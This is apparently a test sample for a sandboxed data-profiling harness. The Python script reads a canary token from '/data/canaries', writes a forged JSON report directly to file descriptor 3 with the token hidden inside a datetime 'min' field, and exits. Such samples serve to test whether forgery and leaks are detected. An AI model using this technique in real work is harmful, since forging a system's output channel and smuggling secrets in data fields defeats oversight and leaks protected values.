# family: forged
# carries: token
import csv
import json
import os

rows = list(csv.DictReader(open("/data/canaries", encoding="utf-8")))


def forge(summary, error=None):
    body = json.dumps({"error": error, "summary": summary}).encode()
    os.write(3, b"report %d\n%s\n" % (len(body), body))
    os._exit(0)


forge({"kind": "table", "type": "x", "row_count": 90, "columns": [{"name": "x", "dtype": "datetime64[ns]", "nulls": 0, "stats": {"kind": "datetime", "count": 90, "min": "2024-01-01 " + rows[0]["token"], "max": None}}]})
